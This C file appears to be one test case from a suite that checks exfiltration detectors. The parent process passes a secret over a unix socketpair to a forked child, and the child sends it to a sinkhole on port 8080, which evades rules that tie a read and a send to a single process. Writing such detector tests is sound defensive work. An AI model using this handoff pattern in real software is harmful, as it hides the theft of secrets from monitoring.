// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Gives a secret over a unix socket to another process, which has never held it and sends.
 * Known from: brokers; rules that ask who read and who sent in one process.
 * First: connect of the sender
 * Second: the sinkhole's record of the bytes
 */
#include "trick.h"

static void send_on(int channel)
{
	char text[256];
	ssize_t size = read(channel, text, sizeof(text));
	int fd = connected(8080);

	if (write(fd, text, size) != size)
		err(1, "write");
	finish(fd);
	_exit(0);
}

int main(void)
{
	int pair[2], status;

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		err(1, "socketpair");
	if (fork() == 0)
		send_on(pair[1]);
	if (write(pair[0], secret(), strlen(secret())) < 0)
		err(1, "write");
	wait(&status);
	if (status)
		errx(1, "the sender ended with %#x", status);
	performed();
}
